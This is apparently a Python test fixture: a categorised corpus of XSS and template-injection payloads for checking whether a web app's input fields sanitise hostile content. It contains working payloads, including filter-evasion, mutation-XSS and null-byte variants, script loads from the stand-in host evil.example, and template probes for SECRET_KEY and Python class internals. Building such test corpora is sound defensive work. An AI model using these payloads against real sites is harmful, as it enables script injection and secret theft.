"""A corpus of hostile strings for every field a learner, an editor or an importer can fill.

Every payload that executes script tries both `alert(1)` (a dialog the browser test records)
and, where it fits, `window.__xss=1` (a flag the browser test reads). Sources: the OWASP XSS
filter evasion cheat sheet, PortSwigger's XSS cheat sheet, mutation-XSS papers (Heiderich et
al.), and template-injection probes for Django, Jinja and Angular.
"""

X = "window.__xss=1"

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    f"<script>{X}</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    '<script\x20type="text/javascript">alert(1)</script>',
    "<script>/*</script><script>*/alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    f'<img src=x onerror="{X}">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    '<p onclick="alert(1)">click</p>',
    '<a href="#" onfocus=alert(1) autofocus>x</a>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b onmouseenter=alert(1)>bold</b>",
    '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>',
    "<strong onanimationstart=alert(1) style=animation-name:x>x</strong>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img src=1 onerror=\"window['al'+'ert'](1)\">",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<img src=x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
]

URL_SCHEMES = [
    '<a href="javascript:alert(1)">link</a>',
    f'<a href="javascript:{X}">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href=" javascript:alert(1)">link</a>',
    '<a href="java\tscript:alert(1)">link</a>',
    '<a href="java\nscript:alert(1)">link</a>',
    '<a href="&#106;avascript:alert(1)">link</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">link</a>',
    '<a href="javascript&colon;alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<a href="data:text/html,<script>alert(1)</script>">link</a>',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<a href="VBSCRIPT:msgbox(1)">link</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    "<input type=image src=x formaction=javascript:alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<a href="\x01javascript:alert(1)">link</a>',
    "<a href=javascript:alert(1)>unquoted</a>",
    '<area href="javascript:alert(1)">',
]

SVG_MATHML = [
    "<svg onload=alert(1)>",
    f"<svg/onload={X}>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)><a>x</a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
]

STYLE = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>*{x:expression(alert(1))}</style>",
]

FRAMES_AND_OBJECTS = [
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<frameset onload=alert(1)>",
    '<applet code="x"></applet>',
    "<template><img src=x onerror=alert(1)></template>",
]

ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

BROKEN_AND_NESTED = [
    "<img src=x onerror=alert(1)",
    "<script>alert(1)",
    "<<img src=x onerror=alert(1)>>",
    '<img """><script>alert(1)</script>">',
    '<a href="</a><script>alert(1)</script>">x</a>',
    "<p <script>alert(1)</script>>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<div><p><b><i><u><script>alert(1)</script></u></i></b></p></div>",
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "<ul><li><img src=x onerror=alert(1)></li></ul>",
    "<a><a href=javascript:alert(1)>nested</a></a>",
    "</p></div></body></html><script>alert(1)</script>",
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mi><style><img src=x onerror=alert(1)></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<table><caption><svg><style><img src=x onerror=alert(1)></style></svg></caption></table>",
    '<a title="<img src=x onerror=alert(1)>">ok</a>',
    '<img alt="<script>alert(1)</script>" src=x.png>',
]

TEMPLATE_INJECTION = [
    "{{ 7*7 }}",
    "{% debug %}",
    "{{ request.user.password }}",
    "{% load static %}{% get_static_prefix %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= 7*7 %>",
    "{{ settings.SECRET_KEY }}",
    "[[${7*7}]]",
    "{{'a'.__class__.__mro__[1].__subclasses__()}}",
]

NULL_BYTES = [
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x onerror\x00=alert(1)>",
    '<a href="java\x00script:alert(1)">x</a>',
    "\x00<script>alert(1)</script>",
    "<img\x00src=x onerror=alert(1)>",
]

PAYLOADS = list(
    dict.fromkeys(
        SCRIPT_TAGS
        + EVENT_HANDLERS
        + URL_SCHEMES
        + SVG_MATHML
        + STYLE
        + FRAMES_AND_OBJECTS
        + ENCODED
        + BROKEN_AND_NESTED
        + MUTATION
        + TEMPLATE_INJECTION
        + NULL_BYTES
    )
)
